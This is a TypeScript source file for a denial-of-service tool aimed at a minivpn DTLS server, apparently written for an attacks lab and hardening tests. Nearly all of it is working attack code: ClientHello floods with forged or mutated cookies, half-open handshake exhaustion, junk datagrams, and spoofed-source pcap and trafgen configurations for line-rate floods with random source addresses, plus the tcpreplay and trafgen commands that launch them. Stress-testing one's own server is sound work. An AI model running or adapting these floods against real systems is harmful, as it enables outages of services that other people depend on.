// flood: what an attacker without a certificate can throw at a minivpn server's UDP port, for
// lab 7 (attacks) and the hardening tests. Every mode is bounded (--count, --seconds) and stops
// by itself.
//
//   node dist/src/tools/flood.js hellos --to HOST:PORT [--rate N] [--seconds S] [--count N] [--ports P]
//                                       [--mutate F] [--junk F] [--cookie forged]
//       DTLS ClientHellos without a cookie: a real one, made by OpenSSL (the project's DTLS
//       client), sent again and again at N a second (0, the default: as fast as the kernel
//       takes them) from P source ports (default 1). --mutate F: a fraction F (0..1) of them
//       with random bytes changed (still a handshake record, so the server parses them).
//       --junk F: a fraction F of 1-byte random datagrams in between (one process, all kinds).
//       --cookie forged: each carries a made-up cookie instead of none.
//   node dist/src/tools/flood.js cookies --to HOST:PORT --ports N [--wait-ms MS] [--hold-ms MS]
//       from each of N source ports: a ClientHello, the server's HelloVerifyRequest fed to the
//       client, the ClientHello with the cookie; then silence (a half-open handshake holds state
//       on the server until its handshake timeout). Waits up to --wait-ms (default 1000) for
//       the HelloVerifyRequests, keeps the sockets open --hold-ms (default 0), closes them.
//   node dist/src/tools/flood.js junk --to HOST:PORT [--size N] [--byte B] [--rate N] [--seconds S]
//                                     [--count N] [--ports P]
//       datagrams of N random bytes (default 1), or of N bytes B each (--byte 0x42: the header
//       of a plaintext CONTROL frame, which a DTLS server takes for a misconfigured client).
//   node dist/src/tools/flood.js pcap --out FILE --to HOST:PORT --sources CIDR[,CIDR...] --count N
//                                     --dst-mac MAC --src-mac MAC [--kind K[,K...]] [--epoch E --seq N [--spread S]]
//       N Ethernet frames from random source addresses (in the prefixes) and random ports, for
//       tcpreplay from a host on the path, since Node cannot fake a source address:
//         tcpreplay -i to-server --topspeed --preload-pcap --loop 100 FILE
//       Kinds, taken in turn: hellos (no cookie), forged (a made-up cookie), control (the
//       1-byte plaintext CONTROL frame 0x42), junk (1 random byte), records (DTLS 1.2
//       application-data records of epoch E, record numbers N+1..N+S (S default 500,000),
//       64 random bytes as ciphertext: from a new address, each is a candidate for the move
//       rule of a session at N, so the server tries to decrypt it). --dst-mac is the MAC
//       address of the server's interface (ip link show eth0 on the server).
//   node dist/src/tools/flood.js trafgen --out FILE --to HOST:PORT --sources CIDR[,CIDR...]
//                                        --dst-mac MAC --src-mac MAC [--kind K[,K...]] [--epoch E --seq N [--spread S]]
//       the same kinds as a trafgen (netsniff-ng) configuration, whose packets trafgen makes
//       at run time with a random source, port, forged cookie and record number each: never
//       repeating, and at least as fast as tcpreplay of a preloaded pcap (side by side here:
//       96k frames/s from one process, 140k from two, tcpreplay 98k; 53-296k over the tests).
//       Repeat a kind to weight it (hellos,hellos,hellos,hellos,hellos,forged). Then e.g.
//         timeout -s INT 10 trafgen -i FILE -o to-server --cpus 1 --no-sock-mem [--rate 50000pps]
//
// The ClientHellos come from a throwaway certificate unless --ca/--cert/--key name files.
// --seconds defaults to 10, --count to 10,000,000. The last line is a summary:
//   flood hellos: sent 1234567 datagrams in 10.00 s (123457/s) from 1 port(s)
import crypto from 'node:crypto';
import dgram from 'node:dgram';
import fs from 'node:fs';
import { PacketBatch } from '../batch';
import { UdpSocket } from '../conn/udp';
import { DtlsContext } from '../dtls/dtls';
import { buildIpv4Udp } from '../lab/pcap';
import { LINKTYPE_ETHERNET, writePcap } from '../lab/pcap';
import { issueCert, makeCA } from '../pki/pki';
import { intToIpv4, ipv4ToInt, isIpv4 } from '../wire/ip';

const USAGE = `usage:
  node dist/src/tools/flood.js hellos --to HOST:PORT [--rate N] [--seconds S] [--count N] [--ports P] [--mutate F] [--junk F] [--cookie forged]
  node dist/src/tools/flood.js cookies --to HOST:PORT --ports N [--wait-ms MS] [--hold-ms MS]
  node dist/src/tools/flood.js junk --to HOST:PORT [--size N] [--byte B] [--rate N] [--seconds S] [--count N] [--ports P]
  node dist/src/tools/flood.js pcap --out FILE --to HOST:PORT --sources CIDR[,CIDR] --count N --dst-mac MAC --src-mac MAC [--kind hellos,forged,control,junk,records] [--epoch E --seq N [--spread S]]
  node dist/src/tools/flood.js trafgen --out FILE --to HOST:PORT --sources CIDR[,CIDR] --dst-mac MAC --src-mac MAC [--kind ...] [--epoch E --seq N [--spread S]]
common: [--ca FILE --cert FILE --key FILE] [--server-name NAME]`;

/** Datagrams per send call (sendmmsg). */
const BATCH = 64;

// --- Datagrams -------------------------------------------------------------------------------

/** A DTLS client context; without files, from a throwaway CA (the attacker has no valid certificate). */
export async function attackerContext(files?: { ca: string; cert: string; key: string }): Promise<DtlsContext> {
  if (files) return DtlsContext.fromFiles({ role: 'client', caFile: files.ca, certFile: files.cert, keyFile: files.key, mtu: 1472 });
  const ca = await makeCA({ cn: 'flood CA', days: 1 });
  const me = await issueCert(ca, { cn: 'flood', kind: 'client', days: 1 });
  return new DtlsContext({ role: 'client', ca: ca.certPem, cert: me.certPem, key: me.keyPem, mtu: 1472 });
}

/** A real first ClientHello (no cookie), as OpenSSL sends it. */
export function clientHello(ctx: DtlsContext, serverName = 'server.minivpn.test'): Buffer {
  const conn = ctx.connect(serverName);
  conn.handshake();
  const out = conn.takeOutput();
  conn.destroy();
  if (!out || out.length !== 1) throw new Error('the DTLS client did not make one ClientHello datagram');
  return out[0];
}

// A DTLS ClientHello datagram: record header (13 bytes; length at 11), handshake header (12:
// type at 13, length at 14, fragment length at 22, 3 bytes each), client_version (2),
// random (32), session_id (1 + n), cookie (1 + n), ...
const HS_BODY = 25;

/** The cookie's length in a ClientHello record (-1: not a ClientHello). */
export function cookieLength(hello: Buffer): number {
  if (hello.length < HS_BODY + 35 || hello[0] !== 22 || hello[13] !== 1) return -1;
  const at = HS_BODY + 2 + 32 + 1 + hello[HS_BODY + 34];
  return at < hello.length ? hello[at] : -1;
}

/** `hello` with its cookie replaced by `cookie` (lengths fixed up); one record, one fragment. */
export function withCookie(hello: Buffer, cookie: Buffer): Buffer {
  if (hello.length < HS_BODY + 35 || hello[0] !== 22 || hello[13] !== 1) throw new Error('withCookie: not a ClientHello record');
  const at = HS_BODY + 2 + 32 + 1 + hello[HS_BODY + 34]; // the cookie's length byte
  const oldLen = hello[at];
  if (cookie.length > 255) throw new Error('withCookie: a cookie has at most 255 bytes');
  const out = Buffer.concat([hello.subarray(0, at), Buffer.from([cookie.length]), cookie, hello.subarray(at + 1 + oldLen)]);
  const delta = cookie.length - oldLen;
  out.writeUInt16BE(hello.readUInt16BE(11) + delta, 11);
  out.writeUIntBE(hello.readUIntBE(14, 3) + delta, 14, 3);
  out.writeUIntBE(hello.readUIntBE(22, 3) + delta, 22, 3);
  return out;
}

/** A copy of `hello` with `n` random bytes after the record header changed. */
export function mutate(hello: Buffer, n = 4): Buffer {
  const out = Buffer.from(hello);
  for (let k = 0; k < n; k++) out[13 + crypto.randomInt(out.length - 13)] = crypto.randomInt(256);
  return out;
}

/** `count` variants of the hellos mode's datagram. */
export function helloPool(hello: Buffer, o: { mutate: number; junk: number; cookie: 'none' | 'forged' }, count = 256): Buffer[] {
  const pool: Buffer[] = [];
  const junk = Math.round(o.junk * count), mutated = Math.round(o.mutate * (count - junk));
  for (let i = 0; i < count - junk; i++) {
    const d = o.cookie === 'forged' ? withCookie(hello, crypto.randomBytes(32)) : hello;
    pool.push(i < mutated ? mutate(d) : d);
  }
  // (Spread out, so that every batch carries every kind.)
  for (let i = 0; i < junk; i++) pool.splice(Math.floor((i * pool.length) / junk), 0, crypto.randomBytes(1));
  return pool;
}

/** `count` junk datagrams: `size` random bytes, or `size` bytes of `fill`. */
export function junkPool(size: number, fill: number | null, count = 256): Buffer[] {
  return Array.from({ length: count }, () => (fill === null ? crypto.randomBytes(size) : Buffer.alloc(size, fill)));
}

// --- Sending at a rate ---------------------------------------------------------------------

export interface PumpOptions { host: string; port: number; rate: number; seconds: number; count: number; ports: number }
export interface PumpResult { sent: number; refused: number; ms: number }

/** Sends datagrams of `pool` in turn, from `ports` sockets, at `rate` a second (0: at once), until time or count is up. */
export async function pump(pool: Buffer[], o: PumpOptions): Promise<PumpResult> {
  const socks = Array.from({ length: o.ports }, () => UdpSocket.connect(o.host, o.port));
  const batches = Array.from({ length: Math.ceil(pool.length / BATCH) }, (_, b) => {
    const batch = new PacketBatch(BATCH, Math.max(...pool.map((d) => d.length)));
    for (const d of pool.slice(b * BATCH, (b + 1) * BATCH)) batch.push(d);
    return batch;
  });
  const t0 = Date.now(), end = t0 + o.seconds * 1000;
  let sent = 0, refused = 0, k = 0;
  try {
    while (sent < o.count) {
      const now = Date.now();
      if (now >= end) break;
      const due = o.rate > 0 ? Math.min(o.count, Math.floor((o.rate * (now - t0)) / 1000)) - sent : o.count - sent;
      if (due <= 0) { await sleep(1); continue; }
      // Busy for at most ~5 ms, then back to the event loop (timers, signals).
      for (let left = due; left > 0 && Date.now() - now < 5; k++) {
        const batch = batches[k % batches.length];
        const full = batch.count;
        batch.count = Math.min(full, left);
        const took = socks[k % socks.length].sendBatch(batch, null);
        refused += batch.count - took;
        sent += took;
        left -= batch.count;
        batch.count = full;
        if (took === 0) break; // the socket is full: let it drain
      }
      await new Promise((r) => setImmediate(r));
    }
  } finally {
    for (const s of socks) s.close();
  }
  return { sent, refused, ms: Date.now() - t0 };
}

function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

// --- Half-open handshakes -------------------------------------------------------------------

export interface CookiesResult { ports: number; hellos: number; cookies: number; withCookie: number; ms: number }

/**
 * From each of `ports` source ports: ClientHello, HelloVerifyRequest, ClientHello with the
 * cookie; then nothing more is sent or read from that port.
 */
export async function halfOpen(ctx: DtlsContext, o: { host: string; port: number; ports: number; waitMs: number; holdMs: number; serverName: string }): Promise<CookiesResult> {
  const t0 = Date.now();
  const r: CookiesResult = { ports: o.ports, hellos: 0, cookies: 0, withCookie: 0, ms: 0 };
  const socks: dgram.Socket[] = [];
  const out = new PacketBatch(8, 2048);
  let allDone: () => void = () => undefined;
  const done = new Promise<void>((res) => { allDone = res; });
  try {
    for (let i = 0; i < o.ports; i++) {
      const sock = dgram.createSocket('udp4');
      socks.push(sock);
      await new Promise<void>((res) => sock.bind(0, res));
      sock.connect(o.port, o.host);
      await new Promise<void>((res) => sock.once('connect', res));
      const conn = ctx.connect(o.serverName);
      conn.handshake();
      let answered = false;
      sock.on('message', (m) => {
        if (answered) return; // silent from here on: the server's flight is never answered
        answered = true;
        r.cookies++;
        conn.openOne(m, out);
        // (Only the ClientHello with the cookie: a late answer also releases the client's
        // retransmission of the first one.)
        for (const d of conn.takeOutput() ?? []) if (cookieLength(d) > 0) { sock.send(d); r.withCookie++; }
        conn.destroy();
        if (r.cookies === o.ports) allDone();
      });
      sock.on('error', () => undefined); // ICMP errors: an attacker does not care
      for (const d of conn.takeOutput() ?? []) { sock.send(d); r.hellos++; }
    }
    await Promise.race([done, sleep(o.waitMs)]);
    if (o.holdMs > 0) await sleep(o.holdMs);
  } finally {
    for (const s of socks) s.close();
  }
  r.ms = Date.now() - t0;
  return r;
}

// --- Spoofed sources (a pcap for tcpreplay) --------------------------------------------------

export type PcapKind = 'hellos' | 'forged' | 'control' | 'junk' | 'records';
const PCAP_KINDS: PcapKind[] = ['hellos', 'forged', 'control', 'junk', 'records'];
/** Kind records: the epoch, and record numbers seq+1..seq+spread. */
export interface RecordShape { epoch: number; seq: number; spread: number }
export interface SpoofOptions {
  to: { host: string; port: number };
  /** Prefixes the source addresses are drawn from, e.g. ["192.0.2.128/25"]. */
  sources: string[];
  count: number;
  dstMac: string;
  srcMac: string;
  kinds: PcapKind[];
  /** A ClientHello (kinds hellos and forged). */
  hello?: Buffer;
  /** Kind records. */
  record?: RecordShape;
}

/** A pcap of `count` Ethernet frames to the server from random addresses of `sources`, random ports. */
export function spoofedPcap(o: SpoofOptions): Buffer {
  const nets = o.sources.map(parseCidr);
  const mac = Buffer.concat([parseMac(o.dstMac, '--dst-mac'), parseMac(o.srcMac, '--src-mac'), Buffer.from([0x08, 0x00])]);
  const packets: { data: Buffer; tsSec: number; tsFrac: number }[] = [];
  for (let i = 0; i < o.count; i++) {
    const net = nets[crypto.randomInt(nets.length)];
    const src = intToIpv4((net.base + crypto.randomInt(net.size)) >>> 0);
    const payload = spoofPayload(o.kinds[i % o.kinds.length], o);
    const ip = buildIpv4Udp({ src, dst: o.to.host, srcPort: 1024 + crypto.randomInt(64512), dstPort: o.to.port, payload, id: i & 0xffff });
    // (Timestamps 1 us apart: tcpreplay --topspeed ignores them anyway.)
    packets.push({ data: Buffer.concat([mac, ip]), tsSec: 1_700_000_000 + Math.floor(i / 1e6), tsFrac: i % 1e6 });
  }
  return writePcap(packets, { linkType: LINKTYPE_ETHERNET });
}

function spoofPayload(kind: PcapKind, o: SpoofOptions): Buffer {
  const hello = o.hello;
  if ((kind === 'hellos' || kind === 'forged') && !hello) throw new Error('spoofedPcap: kinds hellos and forged need a ClientHello');
  switch (kind) {
    case 'hellos': return hello!;
    case 'forged': return withCookie(hello!, crypto.randomBytes(32));
    case 'control': return Buffer.from([0x42]);
    case 'junk': return crypto.randomBytes(1);
    case 'records':
      if (!o.record) throw new Error('spoofedPcap: kind records needs an epoch and a record number');
      return fakeRecord(o.record.epoch, o.record.seq + 1 + crypto.randomInt(o.record.spread));
  }
}

/** A DTLS 1.2 application-data record header (type 23, 0xfefd, epoch, 48-bit number, length) over 64 random bytes. */
export function fakeRecord(epoch: number, seq: number): Buffer {
  const h = Buffer.alloc(13), body = crypto.randomBytes(64);
  h[0] = 23;
  h.writeUInt16BE(0xfefd, 1);
  h.writeUInt16BE(epoch, 3);
  h.writeUIntBE(seq, 5, 6);
  h.writeUInt16BE(body.length, 11);
  return Buffer.concat([h, body]);
}

function parseCidr(s: string): { base: number; size: number } {
  const m = /^([\d.]+)\/(\d+)$/.exec(s);
  if (!m || !isIpv4(m[1]) || Number(m[2]) < 8 || Number(m[2]) > 32) throw new Error(`--sources: "${s}" is not an IPv4 prefix from /8 to /32`);
  const bits = Number(m[2]);
  const size = 2 ** (32 - bits);
  return { base: Math.floor(ipv4ToInt(m[1]) / size) * size, size };
}

function parseMac(s: string, what: string): Buffer {
  if (!/^([0-9a-f]{2}:){5}[0-9a-f]{2}$/i.test(s)) throw new Error(`${what}: "${s}" is not a MAC address (aa:bb:cc:dd:ee:ff)`);
  return Buffer.from(s.replace(/:/g, ''), 'hex');
}

// --- Spoofed sources at line rate (a config for trafgen) --------------------------------------

/**
 * A trafgen (netsniff-ng) packet configuration of the same kinds as spoofedPcap, one packet
 * template per entry of `kinds` (trafgen sends them in turn: repeat a kind to weight it). What
 * tcpreplay must read from a pcap, trafgen makes in place at run time: the source address
 * (uniform over each prefix of `sources`, one template each), the source port, the forged
 * cookie (32 random bytes) and a record number (within N+1..N+S+65535) are random per packet, so a
 * short configuration is an endless flood of distinct senders, which a replayed pcap is not.
 * On a busy 2-core machine one trafgen process (packet mmap) made 53-296k frames/s.
 * The UDP checksum is left out (0: allowed for IPv4), the IPv4 header checksum is computed.
 */
export function trafgenConfig(o: Omit<SpoofOptions, 'count'>): string {
  const nets = o.sources.map(parseCidr);
  const dst = parseMac(o.dstMac, '--dst-mac'), src = parseMac(o.srcMac, '--src-mac');
  if (!isIpv4(o.to.host)) throw new Error(`--to: "${o.to.host}" is not an IPv4 address`);
  const mac = (b: Buffer) => [...b].map((x) => x.toString(16).padStart(2, '0')).join(':');
  const out: string[] = [`/* minivpn flood: ${o.kinds.join(', ')} from ${o.sources.join(', ')} to ${o.to.host}:${o.to.port} */`];
  let k = 0;
  for (const net of nets) {
    for (const kind of o.kinds) {
      out.push(`{ eth(da=${mac(dst)}, sa=${mac(src)}), ipv4(sa=${intToIpv4(net.base)}, da=${o.to.host}, ttl=64${randomHostBits(net)}), ` +
        `udp(sp=drnd(1024, 65535), dp=${o.to.port}, csum=0), ${trafgenPayload(kind, o, k++)} }`);
    }
  }
  return out.join('\n') + '\n';
}

/** trafgen field functions that make each address byte under the prefix's host bits random. */
function randomHostBits(net: { base: number; size: number }): string {
  let s = '';
  for (let byte = 0; byte < 4; byte++) {
    const shift = 8 * (3 - byte);
    const span = Math.min(256, Math.max(1, Math.floor(net.size / 2 ** shift))); // values this byte takes
    if (span <= 1) continue;
    const lo = (net.base >>> shift) & 0xff;
    s += `, sa[${byte}]=drnd(${lo}, ${lo + span - 1})`;
  }
  return s;
}

/** A kind's payload as trafgen elements. */
function trafgenPayload(kind: PcapKind, o: Omit<SpoofOptions, 'count'>, seed: number): string {
  const bytes = (b: Buffer) => [...b].map((x) => `0x${x.toString(16).padStart(2, '0')}`).join(', ');
  const hello = o.hello;
  if ((kind === 'hellos' || kind === 'forged') && !hello) throw new Error('trafgenConfig: kinds hellos and forged need a ClientHello');
  switch (kind) {
    case 'hellos': return bytes(hello!);
    case 'forged': {
      const d = withCookie(hello!, Buffer.alloc(32));
      const at = cookieOffset(d);
      return `${bytes(d.subarray(0, at))}, drnd(32), ${bytes(d.subarray(at + 32))}`;
    }
    case 'control': return '0x42';
    case 'junk': return 'drnd(1)';
    case 'records': {
      if (!o.record) throw new Error('trafgenConfig: kind records needs an epoch and a record number');
      // Record numbers B*65536 .. (B+n)*65536-1: the first multiple of 65536 past N, then the
      // third byte counting through n values (no carry into the byte above), the low two random.
      const { epoch, seq, spread } = o.record;
      const b = Math.floor(seq / 65536) + 1;
      const n = Math.max(1, Math.min(Math.floor(spread / 65536), 256 - (b % 256)));
      const h = Buffer.alloc(8);
      h[0] = 23;
      h.writeUInt16BE(0xfefd, 1);
      h.writeUInt16BE(epoch, 3);
      h.writeUIntBE(Math.floor(b / 256), 5, 3);
      const body = crypto.createHash('sha512').update(`record ${seed}`).digest(); // (64 bytes: never opens)
      return `${bytes(h)}, dinc(${b % 256}, ${(b % 256) + n - 1}), drnd(2), 0x00, 0x40, ${bytes(body)}`;
    }
  }
}

/** Where the cookie of a ClientHello record starts (after its length byte). */
function cookieOffset(hello: Buffer): number {
  return HS_BODY + 2 + 32 + 1 + hello[HS_BODY + 34] + 1;
}

// --- Command line ----------------------------------------------------------------------------

function opt(args: string[], name: string): string | undefined {
  const i = args.indexOf(name);
  if (i < 0) return undefined;
  if (i + 1 >= args.length) throw new Error(`${name} needs a value`);
  return args[i + 1];
}

function num(args: string[], name: string, def: number, min: number, max: number): number {
  const v = opt(args, name);
  if (v === undefined) return def;
  const n = Number(v);
  if (!Number.isFinite(n) || n < min || n > max) throw new Error(`${name}: "${v}" is not a number from ${min} to ${max}`);
  return n;
}

function target(args: string[]): { host: string; port: number } {
  const to = opt(args, '--to');
  const m = to ? /^([\d.]+):(\d+)$/.exec(to) : null;
  if (!m || !isIpv4(m[1]) || Number(m[2]) < 1 || Number(m[2]) > 65535) throw new Error('--to IPv4:PORT is required, e.g. --to 198.51.100.2:1194');
  return { host: m[1], port: Number(m[2]) };
}

async function context(args: string[]): Promise<DtlsContext> {
  const ca = opt(args, '--ca'), cert = opt(args, '--cert'), key = opt(args, '--key');
  if (ca || cert || key) {
    if (!ca || !cert || !key) throw new Error('--ca, --cert and --key go together');
    return attackerContext({ ca, cert, key });
  }
  return attackerContext();
}

function pumpOptions(args: string[], to: { host: string; port: number }): PumpOptions {
  return {
    ...to,
    rate: num(args, '--rate', 0, 0, 10_000_000),
    seconds: num(args, '--seconds', 10, 0.001, 3600),
    count: num(args, '--count', 10_000_000, 1, 1e9),
    ports: num(args, '--ports', 1, 1, 1000),
  };
}

function summary(mode: string, r: PumpResult, ports: number): string {
  const s = r.ms / 1000;
  return `flood ${mode}: sent ${r.sent} datagrams in ${s.toFixed(2)} s (${Math.round(r.sent / Math.max(s, 0.001))}/s) from ${ports} port(s)` +
    (r.refused ? `, ${r.refused} refused by the socket` : '');
}

async function main(argv: string[]): Promise<number> {
  const [mode, ...args] = argv;
  if (!mode || mode === '--help') { process.stderr.write(USAGE + '\n'); return mode ? 0 : 2; }
  const serverName = opt(args, '--server-name') ?? 'server.minivpn.test';
  if (mode === 'hellos' || mode === 'junk') {
    const o = pumpOptions(args, target(args));
    let pool: Buffer[];
    if (mode === 'hellos') {
      const cookie = opt(args, '--cookie') ?? 'none';
      if (cookie !== 'none' && cookie !== 'forged') throw new Error('--cookie: none or forged');
      pool = helloPool(clientHello(await context(args), serverName), { mutate: num(args, '--mutate', 0, 0, 1), junk: num(args, '--junk', 0, 0, 1), cookie });
    } else {
      const fill = opt(args, '--byte');
      pool = junkPool(num(args, '--size', 1, 1, 1472), fill === undefined ? null : num(args, '--byte', 0, 0, 255));
    }
    process.stdout.write(summary(mode, await pump(pool, o), o.ports) + '\n');
    return 0;
  }
  if (mode === 'cookies') {
    const to = target(args);
    const r = await halfOpen(await context(args), { ...to, serverName, ports: num(args, '--ports', 1, 1, 60_000),
      waitMs: num(args, '--wait-ms', 1000, 0, 600_000), holdMs: num(args, '--hold-ms', 0, 0, 600_000) });
    process.stdout.write(`flood cookies: ${r.hellos} ClientHellos from ${r.ports} port(s), ${r.cookies} HelloVerifyRequests back, ` +
      `${r.withCookie} ClientHellos with the cookie sent, then silence; ${(r.ms / 1000).toFixed(2)} s\n`);
    return 0;
  }
  if (mode === 'pcap' || mode === 'trafgen') {
    const out = opt(args, '--out');
    if (!out) throw new Error(`${mode}: --out FILE is required`);
    const kinds = (opt(args, '--kind') ?? 'hellos').split(',') as PcapKind[];
    for (const k of kinds) if (!PCAP_KINDS.includes(k)) throw new Error(`--kind: unknown kind "${k}" (${PCAP_KINDS.join(', ')})`);
    if (kinds.includes('records') && (opt(args, '--epoch') === undefined || opt(args, '--seq') === undefined)) {
      throw new Error('--kind records needs --epoch and --seq (a record header of the session: replay.js list shows them)');
    }
    const record = { epoch: num(args, '--epoch', 1, 1, 0xffff), seq: num(args, '--seq', 0, 0, 2 ** 47), spread: num(args, '--spread', 500_000, 1, 2 ** 40) };
    const needHello = kinds.includes('hellos') || kinds.includes('forged');
    const shape = { to: target(args), sources: (opt(args, '--sources') ?? '').split(','), kinds,
      dstMac: opt(args, '--dst-mac') ?? '', srcMac: opt(args, '--src-mac') ?? '',
      hello: needHello ? clientHello(await context(args), serverName) : undefined, record };
    if (mode === 'trafgen') {
      fs.writeFileSync(out, trafgenConfig(shape));
      process.stdout.write(`flood trafgen: wrote ${out}: ${kinds.join(', ')} from random sources in ${opt(args, '--sources')}\n`);
      return 0;
    }
    const count = num(args, '--count', 10_000, 1, 1_000_000);
    fs.writeFileSync(out, spoofedPcap({ ...shape, count }));
    process.stdout.write(`flood pcap: wrote ${out}: ${count} frames (${kinds.join(', ')}) from random sources in ${opt(args, '--sources')}\n`);
    return 0;
  }
  process.stderr.write(`unknown mode "${mode}"\n${USAGE}\n`);
  return 2;
}

if (require.main === module) {
  process.stdout.on('error', () => process.exit(0));
  main(process.argv.slice(2)).then((code) => process.exit(code), (err: Error) => {
    process.stderr.write(`flood: ${err.message}\n`);
    process.exit(1);
  });
}
